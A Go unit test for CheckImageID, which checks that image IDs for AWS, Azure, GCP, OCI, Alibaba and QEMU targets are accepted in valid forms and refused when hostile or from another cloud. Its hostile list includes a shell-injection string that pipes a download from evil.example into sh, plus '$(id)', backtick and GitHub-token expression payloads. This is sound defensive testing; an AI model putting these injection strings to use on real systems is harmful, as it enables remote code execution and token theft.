package targets

import (
	"strings"
	"testing"
)

// Every target knows its image ID form; what a pull request or packer could
// hand over as an ID (quotes, line breaks, expressions, other clouds' IDs)
// is refused.
func TestImageIDForms(t *testing.T) {
	t.Parallel()
	valid := map[string][]string{
		"aws": {"ami-0123abcd", "ami-0123456789abcdef0"},
		"azure": {
			"/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-1/providers/Microsoft.Compute/images/sindri-dev-1",
			"/subscriptions/sub/resourceGroups/rg/providers/Microsoft.Compute/galleries/sindri_gallery/images/sindri/versions/1.0.20261203",
		},
		"gcp":     {"sindri-dev-1", "projects/my-project/global/images/sindri-dev-1", "https://www.googleapis.com/compute/v1/projects/my-project/global/images/sindri-dev-1", "http://127.0.0.1:8080/compute/v1/projects/test-project/global/images/x1"},
		"oci":     {"ocid1.image.oc1.iad.aaaaaaaa7x4zq", "ocid1.image.oc1..aaaa", "ocid1.image.oc1.iad.fake-base"},
		"alibaba": {"m-bp1abc2def3"},
		"qemu":    {"/home/me/.cache/images/abc/image.qcow2", "images/base.qcow2", "/srv/My Images/x.qcow2"},
	}
	hostile := []string{
		"", "ami-0abc\"; curl https://evil.example | sh; echo \"", "ami-0123abcd\nforged=1", "ami-0123abcd\r",
		"${{ github.token }}", "$(id)", "`id`", "x'y", "a\\b",
	}
	for _, b := range Builders() {
		name := b.Name()
		if len(valid[name]) == 0 {
			t.Errorf("no valid IDs listed for %s", name)
		}
		for _, id := range valid[name] {
			if err := CheckImageID(name, id); err != nil {
				t.Errorf("%s: %q refused: %v", name, id, err)
			}
		}
		for _, id := range hostile {
			if err := CheckImageID(name, id); err == nil {
				t.Errorf("%s: %q accepted", name, id)
			}
		}
		for other, ids := range valid {
			if other == name || name == "qemu" || (name == "gcp" && other == "qemu") {
				continue // a path or a name can look like anything
			}
			for _, id := range ids {
				if name == "gcp" && !strings.ContainsAny(id, "/.") {
					continue
				}
				if err := CheckImageID(name, id); err == nil && !(name == "gcp" && other == "aws") {
					t.Errorf("%s accepts %s's ID %q", name, other, id)
				}
			}
		}
	}
	if err := CheckImageID("nosuch", "x"); err == nil {
		t.Error("an unknown cloud's ID was accepted")
	}
}
